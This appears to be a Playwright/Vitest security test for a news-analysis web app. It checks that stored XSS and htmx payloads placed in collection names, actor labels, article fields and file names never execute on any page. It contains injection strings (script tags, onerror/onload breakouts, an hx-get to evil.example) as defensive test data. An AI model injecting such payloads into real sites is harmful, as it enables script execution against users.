/**
 * Script and htmx attributes smuggled into everything a user can store — a collection's name, an
 * actor's label, names and colour, an article's title, outlet, author, URL and text, and an
 * uploaded file's name — then every page that shows them opened in Chromium: no script runs (a
 * payload would set `window.__pwned`), no dialog opens, no request leaves for another host, and
 * no element carries an `hx-*` or `on*` attribute that came from the data.
 */
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { analyseInThread } from '../../src/library/library.js'
import { openTestLibrary, type TestLibrary } from '../library/helpers.js'
import { launchChromium, serveApp, type RunningApp } from './chromium.js'

const SCRIPT = '<script>window.__pwned=1</script>'
const IMG = '<img src=x onerror="window.__pwned=2">'
const HTMX =
  '<a hx-get="http://evil.example/x" hx-trigger="load" hx-on::load="window.__pwned=3">x</a>'
const BREAK = '"><svg onload="window.__pwned=4">'
const PAYLOAD = `${SCRIPT}${IMG}${HTMX}${BREAK}`

/** What ran or was smuggled in: a payload's mark on `window`, an `on*`/`hx-on` attribute. */
async function inspect(page: Page): Promise<string[]> {
  const found: string[] = []
  const pwned = await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)
  if (pwned !== undefined) found.push(`payload ${pwned} ran`)
  const smuggled = await page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes]
        // A name is what would act; the same text inside a value (a title, a label) is text.
        .filter(
          (a) =>
            /^(on|hx-on)/i.test(a.name) ||
            (/^(hx-(get|post|put|patch|delete)|href|src|action|formaction)$/i.test(a.name) &&
              a.value.includes('evil.example')),
        )
        .map((a) => `<${el.tagName.toLowerCase()} ${a.name}="${a.value}">`),
    ),
  )
  return [...found, ...smuggled]
}

describe('stored input that tries to run', () => {
  let t: TestLibrary
  let server: RunningApp
  let browser: Browser
  let cid: string

  beforeAll(async () => {
    t = await openTestLibrary('xss')
    await t.library.startBackground(analyseInThread)
    const collection = await t.library.createCollection({
      name: `Class ${PAYLOAD}`.slice(0, 100),
      actors: [
        { id: 'russia', label: `Russia ${SCRIPT}`.slice(0, 60), aliases: ['Russia'] },
        {
          id: 'china',
          label: `China ${BREAK}`.slice(0, 60),
          aliases: ['China', 'Beijing'],
          colour: '#123456',
        },
      ],
    })
    cid = collection.id
    await t.library.addArticles(cid, [
      {
        title: `Title ${PAYLOAD}`.slice(0, 300),
        outlet: `Outlet ${BREAK}`,
        author: `Author ${IMG}`,
        url: 'https://example.org/story?q="><script>window.__pwned=5</script>',
        date: '2024-06-19',
        text: `Russia praised China warmly. ${PAYLOAD} China welcomed Russia.`,
        source: `uploaded: ${SCRIPT}.md`,
      },
      {
        title: 'Second',
        outlet: 'Plain',
        date: '2024-06-20',
        text: 'Russia condemned the brutal regime. China said nothing.',
        source: 'pasted',
      },
    ])
    server = await serveApp(t.app)
    browser = await launchChromium()
  }, 60_000)

  afterAll(async () => {
    await browser?.close()
    await server?.close()
    await t?.cleanup()
  })

  it('would be caught: the same payload pasted raw into a page is found', async () => {
    const page = await browser.newPage()
    await page.setContent(`<p>${PAYLOAD}</p>`)
    const found = await inspect(page)
    // Which payload ran last depends on the order the browser fires them in.
    expect(found[0]).toMatch(/^payload [1-4] ran$/)
    expect(found.slice(1)).toStrictEqual([
      '<img onerror="window.__pwned=2">',
      '<a hx-get="http://evil.example/x">',
      '<a hx-on::load="window.__pwned=3">',
      '<svg onload="window.__pwned=4">',
    ])
    await page.close()
  })

  it('runs nothing and sends nothing on any page that shows it', async () => {
    const [first] = await t.library.storage.listArticles(cid)
    const pages = [
      '/collections',
      `/c/${cid}/`,
      `/c/${cid}/articles/${first!.id}`,
      `/c/${cid}/articles/${first!.id}?actor=china`,
      `/c/${cid}/compare?ids=${first!.id},second`,
      `/c/${cid}/terms?q=${encodeURIComponent(SCRIPT)}`,
      `/c/${cid}/terms?q=russia`,
      `/c/${cid}/trends`,
      `/c/${cid}/trends?by=outlet`,
      `/c/${cid}/manage`,
      `/c/${cid}/manage/actors`,
      `/c/${cid}/manage/articles/${first!.id}/edit`,
      `/c/${cid}/ask?label=${encodeURIComponent(SCRIPT)}&names=China`,
      `/c/${cid}/export/compare.html?ids=${first!.id},second`,
    ]
    const found: string[] = []
    for (const path of pages) {
      const page = await browser.newPage()
      page.on('dialog', (d) => {
        found.push(`${path}: a dialog opened`)
        void d.dismiss()
      })
      page.on('request', (r) => {
        const host = new URL(r.url()).host
        if (!r.url().startsWith('data:') && host !== new URL(server.url).host) {
          found.push(`${path}: a request to ${r.url()}`)
        }
      })
      if (path.includes('/export/')) {
        // The snapshot is a download: open its markup as a page of its own, offline.
        const html = await (await fetch(server.url + path)).text()
        await page.setContent(html)
      } else {
        await page.goto(server.url + path)
      }
      await page.waitForLoadState('networkidle')
      for (const s of await inspect(page)) found.push(`${path}: ${s}`)
      await page.close()
    }
    expect(found).toStrictEqual([])
  }, 180_000)
})
